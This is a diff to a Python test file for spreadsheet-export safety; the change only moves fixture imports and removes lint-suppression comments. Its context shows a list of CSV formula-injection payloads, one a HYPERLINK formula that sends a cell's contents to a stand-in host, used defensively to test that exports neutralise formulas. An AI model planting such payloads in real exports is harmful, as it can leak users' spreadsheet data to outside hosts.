@@ -20,7 +20,7 @@ from geo.store import Store
 from layers.export_spec import ExportOptions
 from layers.export_text import FORMULA_STARTS, csv_text
 from layers.models import Parcel
-from tests.layers.test_export_fixtures import AS_OF, Seeded, seeded  # noqa: F401
+from tests.layers.export_seed import AS_OF, Seeded
 
 PAYLOADS = ['=HYPERLINK("http://x.example/?a="&A1,"点我")', "+1+2", "-3+4", "@SUM(1,2)",
             "\t=1+1", "\r=2+2", "=1+1"]
@@ -80,7 +80,7 @@ def _check_xlsx(path: Path) -> None:
 @pytest.mark.parametrize(("name", "options"), [
     ("s.xlsx", {}), ("s.csv", {}), ("s.csv", {"xy": True}), ("s.csv", {"crs": "EPSG:4547", "xy": True}),
 ])
-def test_status_exports_hold_no_formulas(store: Store, seeded: Seeded, tmp_path: Path,  # noqa: F811
+def test_status_exports_hold_no_formulas(store: Store, seeded: Seeded, tmp_path: Path,
                                          lang: str, name: str, options: dict) -> None:
     _poison(store)
     out = tmp_path / name
@@ -93,7 +93,7 @@ def test_status_exports_hold_no_formulas(store: Store, seeded: Seeded, tmp_path:
 
 @pytest.mark.parametrize("lang", ["zh", "en"])
 @pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
-def test_ledger_exports_hold_no_formulas(store: Store, seeded: Seeded, tmp_path: Path,  # noqa: F811
+def test_ledger_exports_hold_no_formulas(store: Store, seeded: Seeded, tmp_path: Path,
                                          lang: str, suffix: str) -> None:
     _poison(store)
     out = tmp_path / f"ledger{suffix}"
